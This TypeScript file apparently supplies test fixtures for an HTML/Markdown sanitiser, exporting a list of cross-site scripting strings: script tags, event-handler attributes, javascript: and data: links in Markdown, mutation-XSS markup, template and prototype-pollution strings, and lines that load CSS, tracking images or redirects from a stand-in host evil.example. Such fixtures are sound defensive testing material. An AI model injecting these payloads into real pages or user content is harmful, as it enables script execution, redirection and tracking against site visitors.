/**
 * Texts with which pages have been broken into elsewhere: markup, handlers, addresses that run, Markdown that becomes
 * them, what ends the script or the attribute it stands in, what a template or a formatter would take for its own.
 */
const script = 'alert(document.domain)';

export const hostileTexts = [
	`<script>${script}</script>`,
	`</script><script>${script}</script>`,
	`<img src=x onerror=${script}>`,
	`"><img src=x onerror="${script}">`,
	`' autofocus onfocus='${script}' x='`,
	`<svg onload=${script}>`,
	`<svg><animate onbegin=${script} attributeName=x dur=1s>`,
	`<iframe srcdoc="<script>parent.${script}</script>">`,
	`<a href="javascript:${script}">click</a>`,
	`<form action="javascript:${script}"><button>go</button></form>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${script}>">`,
	`<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/x) }</style>`,
	`<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">`,
	`[click](javascript:${script})`,
	`[click](JaVaScRiPt:${script} "title")`,
	`[click](java\tscript:${script})`,
	`[click](&#106;avascript:${script})`,
	`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[click](vbscript:msgbox(1)) <javascript:${script}> <data:text/html,<script>${script}</script>>`,
	`![picture](http://evil.example/track.png) ![x](javascript:${script})`,
	`[click](<https://a.example/" onmouseover="${script}">)`,
	`\`<img src=x onerror=${script}>\``,
	'```html\n<img src=x onerror=alert(document.domain)>\n```',
	`\`\`\`"><img src=x onerror=${script}>\ncode\n\`\`\``,
	`~~~</code></pre><script>${script}</script>\n</code></pre><img src=x onerror=${script}>\n~~~`,
	`> <img src=x onerror=${script}>`,
	`> [click](javascript:${script})\n> > - [click](data:text/html,<script>${script}</script>)\n\n<javascript:${script}>`,
	`[click](\u0001javascript:${script}) [click](//evil.example/%0ajavascript:${script}) [click](blob:null/x)`,
	`[x]: javascript:${script}\n\n[x]`,
	`**<b onclick=${script}>bold</b>** @everyone<img src=x onerror=${script}>`,
	`{{constructor.constructor('${script}')()}} \${${script}} {@html '<script>${script}</script>'}`,
	`%lang% %sveltekit.body% <!--[-->`,
	`\u202Egnp.exe \u0000 \uFEFF<img src=x onerror=${script}>`,
	`__proto__ constructor.prototype`
] as const;
